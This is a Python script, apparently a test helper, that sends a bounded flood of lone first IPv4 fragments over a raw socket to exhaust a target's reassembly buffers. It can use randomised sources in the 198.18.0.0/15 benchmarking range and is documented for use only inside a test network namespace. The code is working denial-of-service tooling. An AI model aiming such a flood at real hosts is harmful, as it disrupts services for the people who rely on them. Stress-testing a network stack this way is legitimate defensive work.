#!/usr/bin/env python3
"""frag_flood.py - a bounded flood of lone first fragments (HOSTILE FR-4).

  frag_flood.py DST SECONDS MAX [--src ADDR | --rand-source] [--size N] [--rate PPS]

Sends IPv4 fragments with MF set and offset 0, a fresh IP ID each, UDP as
the protocol and N bytes of payload (default 1024): datagrams that never
complete. Stops after SECONDS or MAX packets, whichever comes first, and
prints "sent K fragments in S s". --rate paces the flood (packets per
second; default: as fast as the socket takes them). Needs root (a raw socket); run it only
inside a test's network namespace. --rand-source picks sources in
198.18.0.0/15 (the benchmarking range, RFC 2544), never routed anywhere.
"""
import argparse
import random
import socket
import struct
import sys
import time


def checksum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def fragment(src, dst, ident, payload):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x2000, 64, 17, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
    hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
    return hdr + payload


def main():
    p = argparse.ArgumentParser()
    p.add_argument("dst")
    p.add_argument("seconds", type=float)
    p.add_argument("max", type=int)
    p.add_argument("--src", default=None)
    p.add_argument("--rand-source", action="store_true")
    p.add_argument("--size", type=int, default=1024)
    p.add_argument("--rate", type=float, default=0)
    a = p.parse_args()
    if a.size % 8 or not 8 <= a.size <= 1400:
        sys.exit("--size: a multiple of 8, 8..1400")
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rnd = random.Random(0xF4A6)
    payload = bytes(a.size)
    t0 = time.monotonic()
    end = t0 + a.seconds
    n = 0
    while n < a.max and time.monotonic() < end:
        for _ in range(64):
            src = a.src
            if a.rand_source or not src:
                src = "198.%d.%d.%d" % (18 + rnd.getrandbits(1), rnd.getrandbits(8),
                                        1 + rnd.randrange(254))
            pkt = fragment(src, a.dst, rnd.getrandbits(16), payload)
            try:
                s.sendto(pkt, (a.dst, 0))
            except OSError:
                time.sleep(0.001)  # the TUN queue is full: let the stack drain it
            n += 1
        if a.rate > 0:
            ahead = t0 + n / a.rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    print(f"sent {n} fragments in {time.monotonic() - t0:.1f} s", flush=True)


if __name__ == "__main__":
    main()
